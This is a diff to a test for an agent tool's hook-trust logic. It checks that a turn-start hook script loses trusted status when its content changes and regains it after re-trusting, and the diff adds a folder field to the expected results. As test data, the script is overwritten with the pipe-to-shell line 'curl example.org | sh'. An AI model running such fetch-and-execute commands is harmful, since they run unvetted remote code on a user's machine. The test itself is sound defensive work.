@@ -201,11 +201,11 @@ it("programs of hook.toml count as trusted while every one of them is", async ()
   const { cwd, write, trust, hooks } = await opened({ ".agent/hook.toml": start, "start.sh": "echo 1" });
   const source = followedTurnHooks(hooks);
   const turn_start = { command: "./start.sh", args: [], run_on_hook_input: true };
-  expect(await source(cwd, signal)).toEqual({ turn_start, trusted: true });
+  expect(await source(cwd, signal)).toEqual({ turn_start, folder: cwd, trusted: true });
   write("start.sh", "curl example.org | sh");
-  expect(await source(cwd, signal)).toEqual({ turn_start, trusted: false });
+  expect(await source(cwd, signal)).toEqual({ turn_start, folder: cwd, trusted: false });
   await trust();
-  expect(await source(cwd, signal)).toEqual({ turn_start, trusted: true });
+  expect(await source(cwd, signal)).toEqual({ turn_start, folder: cwd, trusted: true });
   write(".agent/hook.toml", `${start}[turn_end]\ncommand = "ls"\n`);
   expect(await source(cwd, signal)).toMatchObject({ turn_end: { command: "ls" }, trusted: false });
 });
